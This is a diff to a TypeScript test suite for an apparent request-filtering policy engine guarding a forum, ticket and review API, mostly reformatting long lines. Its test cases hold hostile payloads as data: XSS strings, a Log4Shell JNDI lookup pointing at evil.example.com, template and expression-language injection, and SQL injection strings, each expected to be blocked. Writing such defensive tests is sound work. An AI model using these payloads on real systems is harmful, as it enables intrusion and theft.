@@ -12,7 +12,12 @@ const FORUM = readFileSync("examples/policies/app-forum.yaml", "utf8");
 
 const bundle = bundleOf(BASELINE, FORUM);
 const forum = routeOf(bundle);
-const json = (url: string, body: unknown, method = "POST"): RequestInit => ({ method, url, headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
+const json = (url: string, body: unknown, method = "POST"): RequestInit => ({
+  method,
+  url,
+  headers: { "content-type": "application/json" },
+  body: JSON.stringify(body),
+});
 const THREAD = "/threads/6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b/posts";
 const TICKET = "/tickets/42/comments";
 const REVIEW = `/reviews/${"a".repeat(40)}/comments`;
@@ -38,22 +43,47 @@ describe("content profiles per field", () => {
     ["markdown post with raw <script>", json(THREAD, { body: "hello <script>alert(document.cookie)</script>" }), 403, "content.markdown-html"],
     ["markdown post with an event handler", json(THREAD, { body: "look ![x](y.png) <img src=x onerror=alert(1)>" }), 403, "content.markdown-html"],
     ["markdown link to javascript:", json(TICKET, { message: "[docs](javascript:alert(1))" }), 403, "content.markdown-url"],
-    ["markdown image with a data: HTML URL", json(REVIEW, { file: "a.ts", line: 3, body: "![x](data:text/html;base64,PHNjcmlwdD4=)" }), 403, "content.markdown-url"],
+    [
+      "markdown image with a data: HTML URL",
+      json(REVIEW, { file: "a.ts", line: 3, body: "![x](data:text/html;base64,PHNjcmlwdD4=)" }),
+      403,
+      "content.markdown-url",
+    ],
     ["markdown post with Log4Shell", json(THREAD, { body: "logs show ${jndi:ldap://evil.example.com/a}" }), 403, "java.jndi-lookup"],
     ["markdown post with an obfuscated lookup", json(THREAD, { body: "${${lower:j}ndi:${lower:r}mi://x/a}" }), 403, "java.jndi-lookup"],
     ["markdown post with template injection", json(THREAD, { body: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }), 403, "generic.template-injection"],
-    ["markdown post with expression-language injection", json(THREAD, { body: "%{#_memberAccess['allowStaticMethodAccess']=true}" }), 403, "java.expression-injection"],
+    [
+      "markdown post with expression-language injection",
+      json(THREAD, { body: "%{#_memberAccess['allowStaticMethodAccess']=true}" }),
+      403,
+      "java.expression-injection",
+    ],
     // text: no markup at all
     ["text title with shell and SQL", json("/threads", { title: "grep -r 'OR 1=1' /etc fails; why?", body: "see title", category: "help" }), null, null],
     ["text title with markup", json("/threads", { title: "hi <b onmouseover=x>there</b>", body: "x", category: "help" }), 403, "content.text-markup"],
     ["text query with SQL", { url: "/threads?q=%27%20OR%201%3D1%20--" }, null, null],
     ["text query with markup", { url: "/threads?q=%3Cimg%20src%3Dx%3E" }, 403, "content.text-markup"],
     // html: dangerous tags, attributes and URLs
-    ["html bio with ordinary markup", json("/users/adalovelace/profile", { bio: "<p>I write <b>SQL</b>: <code>SELECT * FROM t WHERE a=1 OR 1=1</code></p>" }, "PUT"), null, null],
+    [
+      "html bio with ordinary markup",
+      json("/users/adalovelace/profile", { bio: "<p>I write <b>SQL</b>: <code>SELECT * FROM t WHERE a=1 OR 1=1</code></p>" }, "PUT"),
+      null,
+      null,
+    ],
     ["html bio with an iframe", json("/users/adalovelace/profile", { bio: "<iframe src=https://evil.example.com></iframe>" }, "PUT"), 403, "content.html-tag"],
-    ["html bio with an entity-hidden script URL", json("/users/adalovelace/profile", { bio: '<a href="&#106;ava&#x09;script:alert(1)">me</a>' }, "PUT"), 403, "content.html-url"],
+    [
+      "html bio with an entity-hidden script URL",
+      json("/users/adalovelace/profile", { bio: '<a href="&#106;ava&#x09;script:alert(1)">me</a>' }, "PUT"),
+      403,
+      "content.html-url",
+    ],
     // identifiers: strict type validation first, deny rules at the baseline's level
-    ["SQL injection in a path identifier", { method: "POST", url: "/tickets/1%20OR%201=1/comments", headers: { "content-type": "application/json" }, body: '{"message":"x"}' }, 400, "openapi.parameter-invalid"],
+    [
+      "SQL injection in a path identifier",
+      { method: "POST", url: "/tickets/1%20OR%201=1/comments", headers: { "content-type": "application/json" }, body: '{"message":"x"}' },
+      400,
+      "openapi.parameter-invalid",
+    ],
     ["SQL injection in a query identifier", { url: "/threads?tag=x%27%20UNION%20SELECT%20password%20FROM%20users--" }, 400, "openapi.parameter-invalid"],
     ["SQL injection in an enum", json(TICKET, { message: "x", visibility: "public' OR '1'='1" }), 403, null],
     ["an identifier that is valid passes", json(THREAD, { body: "thanks", replyTo: "6f1c2b7e-8a4d-4b8e-9a51-0c9d2f3e4a5b" }), null, null],
@@ -78,7 +108,12 @@ describe("content profiles per field", () => {
 
   it("checks every array item of a content field and every duplicate key", () => {
     expect(forum(json(REVIEW, { file: "a", line: 1, body: "ok", suggestions: ["fine", "<script>x</script>"] })).verdict?.ruleId).toBe("content.text-markup");
-    const duplicate = { method: "POST", url: THREAD, headers: { "content-type": "application/json" }, body: '{"body":"<script>alert(1)</script>","body":"fine"}' };
+    const duplicate = {
+      method: "POST",
+      url: THREAD,
+      headers: { "content-type": "application/json" },
+      body: '{"body":"<script>alert(1)</script>","body":"fine"}',
+    };
     expect(forum(duplicate).verdict?.status).toBe(403);
   });
 
